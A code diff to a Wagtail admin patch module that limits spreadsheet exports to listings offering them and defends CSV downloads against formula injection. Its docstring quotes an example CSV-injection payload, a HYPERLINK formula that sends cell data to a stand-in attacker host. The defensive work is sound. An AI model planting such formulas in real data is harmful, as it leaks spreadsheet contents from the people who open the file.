@@ -1,15 +1,26 @@
-"""The one place where every CSV download of the admin neutralises spreadsheet formulas (OWASP's "CSV injection").
+"""The one place where Wagtail 7.4's spreadsheet downloads (``SpreadsheetExportMixin``) are patched, for every admin
+listing at once: ours, Wagtail's own (images, documents, sites, collections, workflows, tasks, the page explorer,
+its reports) and any package's.
 
-Anyone may write a page feedback comment such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")``; Wagtail 7.4
-writes it into the CSV unchanged, and Excel or LibreOffice run it as a formula when an editor opens the file. A
-text value that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, so the
-spreadsheet shows it as text. Wagtail's Excel download is safe already (it stores such a cell as text).
+1. **Only the downloads a listing offers.** Wagtail decides ``is_export`` in ``SpreadsheetExportMixin.setup`` as
+   ``request.GET["export"] in FORMATS``, whether or not the listing shows its "Download CSV" and "Download XLSX"
+   buttons (``show_export_buttons``, which is ``bool(list_export)``). A listing without export columns (images,
+   sites, team accounts...) answered a hand-typed ``?export=csv`` with a file of one empty line per row.
+   ``is_export`` is now true only where the listing offers the download; elsewhere ``?export=`` shows the ordinary
+   listing. It is read when first used (pagination, the response), after the view's own ``setup`` and
+   ``dispatch``, so a view that settles its buttons there is asked once it has. No hook, viewset option or
+   middleware reaches this: Wagtail's own listings are built inside Wagtail, and a middleware would have to build
+   each view a second time to know whether it shows buttons.
 
-Wagtail writes every CSV cell through ``SpreadsheetExportMixin.preprocess_field_value`` (called by
-``write_csv_row``), whatever the view: our reports, every model and snippet listing, Wagtail's own reports. ``apply``
-wraps that one method, so no view can forget it.
+2. **CSV injection** (OWASP). Anyone may write a page feedback comment such as
+   ``=HYPERLINK("http://evil.example/?"&A1,"Click")``; Wagtail writes it into the CSV unchanged, and Excel or
+   LibreOffice run it as a formula when an editor opens the file. A text value that begins with ``=``, ``+``,
+   ``-``, ``@``, a tab or a carriage return gets a leading ``'``, so the spreadsheet shows it as text. Wagtail's
+   Excel download is safe already (it stores such a cell as text). Wagtail writes every CSV cell through
+   ``SpreadsheetExportMixin.preprocess_field_value`` (called by ``write_csv_row``), whatever the view; ``apply``
+   wraps that one method, so no view can forget it.
 
-tests/cms/test_csv_exports.py fails when Wagtail writes CSV cells another way.
+tests/cms/test_csv_exports.py and tests/cms/test_listing_exports.py fail when Wagtail decides either another way.
 """
 
 import datetime
@@ -31,8 +42,25 @@ def csv_safe(value):
     return f"'{text}" if text.startswith(FORMULA_STARTS) else value
 
 
+def _export_requested(view):
+    """What Wagtail's ``setup`` decided from ``?export=`` alone (``export_requested``): a format of ``FORMATS``."""
+    return view.__dict__.get("export_requested", False)
+
+
+def _is_export(view):
+    return _export_requested(view) and bool(view.show_export_buttons)
+
+
+def _set_is_export(view, value):
+    view.__dict__["export_requested"] = bool(value)
+
+
 def apply():
     from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    if not isinstance(SpreadsheetExportMixin.__dict__.get("is_export"), property):
+        # Wagtail's setup assigns ``self.is_export``: the setter keeps what was asked, the getter adds the offer.
+        SpreadsheetExportMixin.is_export = property(_is_export, _set_is_export)
 
     original = SpreadsheetExportMixin.preprocess_field_value
     if getattr(original, "csv_safe", False):
